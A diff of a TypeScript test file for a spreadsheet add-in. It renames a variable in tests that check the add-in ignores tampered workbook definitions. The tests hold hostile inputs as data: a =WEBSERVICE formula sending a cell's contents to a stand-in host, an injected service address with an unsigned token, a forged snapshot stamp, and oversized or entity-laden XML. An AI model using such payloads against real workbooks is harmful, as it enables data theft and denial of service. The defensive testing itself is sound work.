@@ -29,16 +29,16 @@ async function tryAll(file: File, parts: readonly string[]): Promise<void> {
   }
 }
 
-const changesNothing = (tamper: (sound: string) => readonly string[]) => async () => {
+const changesNothing = (tamper: (validXml: string) => readonly string[]) => async () => {
   const file = await openFile();
   const before = typedCells(file.workbook);
-  await tryAll(file, tamper(file.sound));
+  await tryAll(file, tamper(file.validXml));
   expect(typedCells(file.workbook)).toEqual(before);
 };
 
 const entersNothing = (formula: string) => async () => {
   const file = await openFile();
-  await tryAll(file, [withQuery(file.sound, formula)]);
+  await tryAll(file, [withQuery(file.validXml, formula)]);
   expect(file.workbook.entered).toEqual([]);
 };
 
@@ -47,41 +47,41 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
     const request = jest.spyOn(globalThis, 'fetch').mockRejectedValue(new Error('offline'));
     const file = await openFile();
     await tryAll(file, [
-      put(file.sound, `<service>${elsewhere}</service>`),
-      called(withQuery(file.sound, `=IDS.QUERY("${elsewhere}/v2","top=1")`), 'second'),
+      put(file.validXml, `<service>${elsewhere}</service>`),
+      called(withQuery(file.validXml, `=IDS.QUERY("${elsewhere}/v2","top=1")`), 'second'),
     ]);
     expect(request).not.toHaveBeenCalled();
     request.mockRestore();
   },
   'bring a token or a service address of its own': async () => {
     const file = await openFile();
-    await tryAll(file, [put(file.sound, `<service>${elsewhere}</service><token>eyJhbGciOiJub25lIn0.e30.x</token>`)]);
+    await tryAll(file, [put(file.validXml, `<service>${elsewhere}</service><token>eyJhbGciOiJub25lIn0.e30.x</token>`)]);
     expect(JSON.stringify([file.workbook.entered, [...file.workbook.kept.values()]])).not.toMatch(/elsewhere|eyJ/);
   },
   'enter a formula other than one call of an IDS function': entersNothing(`=WEBSERVICE("${elsewhere}/?"&A1)`),
   'enter a formula that refers to another file': entersNothing(`=IDS.POSITIONS('${elsewhere}/x.xlsx'!N,"last")`),
-  "make a refresh overwrite rows that don't match what the add-in wrote": changesNothing((sound) => [
-    aimedAt(sound, mine, 'Mine'),
+  "make a refresh overwrite rows that don't match what the add-in wrote": changesNothing((validXml) => [
+    aimedAt(validXml, mine, 'Mine'),
   ]),
-  'write into a table that was neither linked nor confirmed on this device': changesNothing((sound) => [
-    sound,
-    called(marked(sound), 'added'),
+  'write into a table that was neither linked nor confirmed on this device': changesNothing((validXml) => [
+    validXml,
+    called(marked(validXml), 'added'),
   ]),
-  'write values under the header of another column': changesNothing((sound) => [
-    aimedAt(sound, mine, 'Mine').replace('header="Quantity"', 'header="Price"'),
+  'write values under the header of another column': changesNothing((validXml) => [
+    aimedAt(validXml, mine, 'Mine').replace('header="Quantity"', 'header="Price"'),
   ]),
   'refresh one table through two definitions': async () => {
-    const { workbook, actions, sound } = await openFile();
-    workbook.kept.set('{second}', called(sound, 'second'));
+    const { workbook, actions, validXml } = await openFile();
+    workbook.kept.set('{second}', called(validXml, 'second'));
     const listed = await actions.listDataRanges();
     expect(listed.filter(({ address }) => address !== '')).toHaveLength(1);
     expect(listed).toContainEqual(
       expect.objectContaining({ state: 'failed', problem: expect.stringMatching(/second definition/) as string }),
     );
   },
-  'clear cells with a forged snapshot stamp': changesNothing((sound) => [
+  'clear cells with a forged snapshot stamp': changesNothing((validXml) => [
     frozen(
-      aimedAt(sound, mine, 'Mine'),
+      aimedAt(validXml, mine, 'Mine'),
       `<note sheet="${mine}" row="6" column="0" rows="2" columns="2" hash="2-x-y"/>`,
     ),
   ]),
@@ -95,27 +95,30 @@ const promises: Readonly<Record<string, () => Promise<void>>> = {
     expect(sheet.get(2, 1).value).toBe(999);
   },
   'show a table with rows of several fetches as fresh': async () => {
-    const { workbook, actions, source, sound } = await openFile();
+    const { workbook, actions, source, validXml } = await openFile();
     source.fetchedAt = Date.parse('2026-01-02T12:00:00');
     await actions.refreshDataRanges('all');
     expect(await actions.listDataRanges()).toMatchObject([{ state: 'fresh' }]);
     const [[part = '', now = ''] = []] = [...workbook.kept];
     const written = /<written .*?<\/written>/s;
-    workbook.kept.set(part, now.replace(written, (written.exec(sound)?.[0] ?? '').replace(/>[0-9a-z]{6}/, '>zzzzzz')));
+    workbook.kept.set(
+      part,
+      now.replace(written, (written.exec(validXml)?.[0] ?? '').replace(/>[0-9a-z]{6}/, '>zzzzzz')),
+    );
     expect(await actions.listDataRanges()).toMatchObject([{ state: 'stale' }]);
   },
   'stop other tables or the audit from working with a broken definition': async () => {
-    const { workbook, actions, sound } = await openFile();
-    workbook.kept.set('{broken}', sound.slice(0, 200));
-    workbook.kept.set('{other}', called(aimedAt(sound, mine, 'Mine'), 'other').replaceAll('header="', 'header="x'));
+    const { workbook, actions, validXml } = await openFile();
+    workbook.kept.set('{broken}', validXml.slice(0, 200));
+    workbook.kept.set('{other}', called(aimedAt(validXml, mine, 'Mine'), 'other').replaceAll('header="', 'header="x'));
     expect(await actions.refreshDataRanges('all')).toContainEqual(expect.objectContaining({ outcome: 'unchanged' }));
     await expect(actions.writeAudit()).resolves.toMatch(/^IDS audit/);
   },
   'stop the add-in with its size or nesting': async () => {
-    const { workbook, actions, sound } = await openFile();
-    workbook.kept.set('{deep}', put(sound, `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`));
-    workbook.kept.set('{wide}', put(sound, `<!--${'x'.repeat(1_000_000)}-->`));
-    workbook.kept.set('{entities}', `<!DOCTYPE block [<!ENTITY a "x">]>${sound}`);
+    const { workbook, actions, validXml } = await openFile();
+    workbook.kept.set('{deep}', put(validXml, `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`));
+    workbook.kept.set('{wide}', put(validXml, `<!--${'x'.repeat(1_000_000)}-->`));
+    workbook.kept.set('{entities}', `<!DOCTYPE block [<!ENTITY a "x">]>${validXml}`);
     expect(await processorMillis(async () => expect(await actions.listDataRanges()).toHaveLength(4))).toBeLessThan(
       2_000,
     );
